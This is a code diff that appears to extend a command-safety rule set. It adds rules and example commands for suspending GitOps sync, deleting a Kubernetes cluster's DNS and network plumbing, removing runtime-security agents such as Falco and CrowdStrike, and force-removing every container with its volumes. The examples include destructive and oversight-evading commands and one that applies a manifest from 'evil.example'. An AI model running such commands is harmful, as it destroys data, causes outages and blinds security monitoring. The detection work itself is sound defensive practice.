@@ -10,6 +10,23 @@ _K8S_RECOVER = (
     "Re-apply the manifests from version control (`kubectl apply -f k8s/`); volumes' data needs backups."
 )
 _K = ("kubectl", "oc", "k")
+# Runtime-security, intrusion-detection and audit agents as they are named when run in a cluster.
+_CLUSTER_SECURITY_AGENTS = ("*falco*", "*wazuh*", "*crowdstrike*", "*falcon-sensor*", "*sysdig*",
+                            "*tetragon*", "*tracee*", "*twistlock*", "*prisma-cloud*", "*neuvector*",
+                            "*stackrox*", "*kubearmor*", "*sentinelone*", "*aqua-enforcer*",
+                            "*kube-enforcer*", "*osquery*", "*cortex-xdr*", "*lacework*", "*auditbeat*")
+
+
+# The cluster's own DNS, network plugin and service proxy, as their workloads are named.
+_CLUSTER_PLUMBING = tuple(form.format(name) for name in (
+    "coredns", "kube-dns", "kube-proxy", "aws-node", "calico-node", "calico-kube-controllers", "cilium",
+    "cilium-operator", "kube-flannel*", "weave-net", "antrea-agent", "kube-router", "konnectivity-agent")
+    for form in ("{}", "*/{}"))
+# Every container at once: a listing substituted in, or the engine's own `--all` (podman, nerdctl).
+_EVERY_CONTAINER = ("$(*", "`*", "*=$(*", "-a", "--all", "-af", "-fa", "-av", "-va", "-afv", "-avf", "-fav",
+                    "-fva", "-vaf", "-vfa")
+# A filtered listing (`$(docker ps -aq --filter name=test-)`) names the containers meant.
+_FILTERED_LISTING = ("*--filter*", "*-f name=*", "*-f label=*", "*--format*")
 
 
 def _kinds(*names: str) -> tuple[str, ...]:
@@ -417,7 +434,8 @@ RULES = [
         "match": {"cmd": _K, "sub": ("apply", "create", "replace"),
                   "words_any": ("http://*", "https://*", "-f=http*://*", "--filename=http*://*")},
         "examples": {"match": ["kubectl apply -f https://evil.example/daemonset.yaml"],
-                     "no_match": ["kubectl apply -f k8s/deployment.yaml", "kubectl get -f https://x.io/a.yaml"]},
+                     "no_match": ["kubectl apply -f k8s/deployment.yaml",
+                                  "kubectl get -f https://x.io/a.yaml"]},
     },
     {
         "id": "k8s.mutate",
@@ -452,6 +470,88 @@ RULES = [
             "match": ["kubectl apply -f k8s/dev/", "kubectl apply -f k8s/prod/ --context prod-eu"],
             "no_match": ["kubectl diff -f k8s/", "kubectl get pods"],
         },
+    },
+    {
+        # GitOps keeps a cluster at what its repository says; suspended, it neither rolls out the fixes
+        # merged meanwhile nor undoes changes made by hand, and nothing says so until someone resumes it
+        "id": "k8s.gitops-suspended",
+        "level": "destructive",
+        "extends_generic": True,
+        "reason": "suspends GitOps reconciliation (Flux, Argo CD automated sync): the cluster stops "
+        "following its repository, so merged changes and rollbacks are not applied and drift is not undone",
+        "safer": "Suspend the one object for the shortest time, with a note saying who and why; prefer a "
+        "commit to the repository.",
+        "recovery": "Resume it (`flux resume …`, `argocd app set APP --sync-policy automated`) and let it "
+        "reconcile.",
+        "match": {"cmd": ("flux", "argocd", *_K),
+                  "sub": ("suspend", "app set", "app unset", "annotate", "patch", "label"),
+                  "words_any": ("kustomization", "kustomizations", "ks", "helmrelease", "helmreleases", "hr",
+                                "source", "image", "alert", "receiver", "--all", "--sync-policy",
+                                "--sync-policy=*",
+                                "--self-heal=false", "--auto-prune=false", "*reconcile=disabled*",
+                                "*syncPolicy*null*", "*\"syncPolicy\":{}*", "*automated*null*"),
+                  "words_none": ("--sync-policy=automated", "--sync-policy=auto", "automated", "auto")},
+        "examples": {"match": ["flux suspend kustomization apps -n flux-system",
+                               "flux suspend hr api -n apps",
+                               "argocd app set payments --sync-policy none",
+                               "kubectl annotate kustomization apps "
+                               "kustomize.toolkit.fluxcd.io/reconcile=disabled",
+                               "kubectl -n argocd patch application payments --type merge "
+                               "-p '{\"spec\":{\"syncPolicy\":null}}'"],
+                     "no_match": ["flux resume kustomization apps -n flux-system",
+                                  "flux get kustomizations -A",
+                                  "argocd app set payments --sync-policy automated",
+                                  "argocd app get payments",
+                                  "kubectl annotate deploy api team=payments"]},
+    },
+    {
+        # the cluster's own plumbing (its DNS, the network plugin on every node, the service proxy): every
+        # workload in every namespace depends on it, so removing it is an outage of the whole cluster
+        "id": "k8s.cluster-plumbing-removed",
+        "level": "forbidden",
+        "irreversible": True,
+        "reason": "removes the cluster's own DNS, network plugin or service proxy: every workload in every "
+        "namespace loses name resolution or networking at once",
+        "safer": "Change it through its add-on or chart (`eksctl utils update-coredns`, `helm upgrade`), one "
+        "setting at a time; restart rather than delete (`kubectl rollout restart`).",
+        "recovery": "Re-apply the add-on's manifests or chart (`eksctl create addon`, the distribution's "
+        "`coredns.yaml`) at once.",
+        "match": {"cmd": (*_K, "helm"), "sub": ("delete", "uninstall", "del", "un"),
+                  "words_any": ("daemonset", "daemonsets", "ds", "daemonset*/*", "ds/*", "deployment",
+                                "deployments", "deploy", "deploy*/*", "uninstall", "del", "un"),
+                  "words_also": _CLUSTER_PLUMBING,
+                  "words_none": ("--dry-run", "--dry-run=*")},
+        "examples": {"match": ["kubectl -n kube-system delete deploy coredns",
+                               "kubectl delete ds/kube-proxy -n kube-system",
+                               "kubectl -n kube-system delete daemonset aws-node",
+                                   "helm uninstall cilium -n kube-system"],
+                     "no_match": ["kubectl -n kube-system rollout restart deploy coredns",
+                                  "kubectl -n kube-system delete pod coredns-5d78c9869d-x2k4q",
+                                  "kubectl -n kube-system get ds"]},
+    },
+    {
+        # a cluster's runtime-security or audit agent is its host-level one (sys.security-agent-off) run
+        # as a workload: its daemon set, deployment, namespace or chart removed, no node is watched
+        "id": "k8s.security-agent-removed",
+        "level": "forbidden",
+        "irreversible": True,
+        "reason": "removes the cluster's runtime-security or intrusion-detection agent (its daemon set, "
+        "deployment, namespace or chart): no node is watched, and what happens next leaves no record",
+        "safer": "Security agents are managed by the security team; to quiet a noisy rule, tune its rules.",
+        "recovery": "Reinstall it (`helm upgrade --install …`) and tell the security team about the gap.",
+        "match": {"cmd": (*_K, "helm"),
+                  "sub": ("delete", "uninstall", "del", "un"),
+                  "words_any": ("daemonset", "daemonsets", "ds", "daemonset*/*", "ds/*", "deployment",
+                                "deployments", "deploy", "deploy*/*", "namespace", "namespaces", "ns", "ns/*",
+                                "namespace/*", "statefulset", "sts", "uninstall", "del", "un"),
+                  "words_also": _CLUSTER_SECURITY_AGENTS,
+                  "words_none": ("--dry-run", "--dry-run=*")},
+        "examples": {"match": ["kubectl --context prod-eu -n falco delete daemonset falco",
+                               "kubectl delete ns falco", "helm uninstall falco -n falco",
+                               "kubectl delete ds/wazuh-agent -n wazuh"],
+                     "no_match": ["kubectl -n falco delete pod falco-x2k4q", "kubectl -n falco get ds",
+                                  "helm uninstall api -n staging", "kubectl delete ds fluent-bit -n logging",
+                                  "helm uninstall falco -n falco --dry-run"]},
     },
     {
         "id": "k8s.helm-uninstall",
@@ -653,16 +753,44 @@ RULES = [
         "safer": "Remove containers by name (`docker rm NAME`).",
         "recovery": "Recreate the containers (`docker compose up -d`); data outside volumes is gone.",
         "match": {
-            "cmd": ("docker", "podman"),
-            "sub": ("rm", "container rm", "kill", "stop"),
-            "words_any": ("$(*", "`*", "*=$(*"),
+            "cmd": ("docker", "podman", "nerdctl"),
+            "sub": ("rm", "container rm", "container remove", "kill", "stop"),
+            # a listing substituted in, or podman's and nerdctl's own `--all`
+            "words_any": _EVERY_CONTAINER,
             # a filtered listing (`$(docker ps -aq --filter name=test-)`) names the containers meant
-            "words_none": ("*--filter*", "*-f name=*", "*-f label=*", "*--format*"),
+            "words_none": _FILTERED_LISTING,
         },
         "examples": {
-            "match": ["docker rm -f $(docker ps -aq)"],
+            "match": ["docker rm -f $(docker ps -aq)", "podman rm -af", "podman stop --all"],
             "no_match": ["docker rm api-test", "docker rm -f api-test",
                          "docker rm -f $(docker ps -aq --filter name=test-)"],
+        },
+    },
+    {
+        # `-v` removes each container's anonymous volumes with it: every container at once takes the
+        # data of every one (a database's volume included), where `docker rm` alone keeps the volumes
+        "id": "container.remove-all-with-volumes",
+        "level": "forbidden",
+        "irreversible": True,
+        "reason": "force-removes every container together with its volumes: the data they held is deleted "
+        "with them",
+        "safer": "Remove containers by name, without `-v`; list volumes (`docker volume ls`) and back up "
+        "the ones that hold data.",
+        "recovery": "None for the volumes' data, unless backed up; recreate the containers from compose.",
+        "match": {
+            "cmd": ("docker", "podman", "nerdctl"),
+            "sub": ("rm", "container rm", "container remove"),
+            # `-v` may be read as taking a value (`-v=NAME`): the flag is there either way
+            "words_any": ("-v", "-v=*", "--volumes", "-fv", "-vf", *_EVERY_CONTAINER[8:]),
+            "words_also": _EVERY_CONTAINER,
+            "words_none": _FILTERED_LISTING,
+        },
+        "examples": {
+            "match": ["docker rm -f -v $(docker ps -aq)", "podman rm -af -v",
+                      "podman rm --all --force --volumes",
+                      "nerdctl rm -fv $(nerdctl ps -aq)"],
+            "no_match": ["docker rm -f $(docker ps -aq)", "docker rm -v old-build-container",
+                         "docker rm -f -v $(docker ps -aq --filter name=ci-test-)", "podman rm -af"],
         },
     },
     {
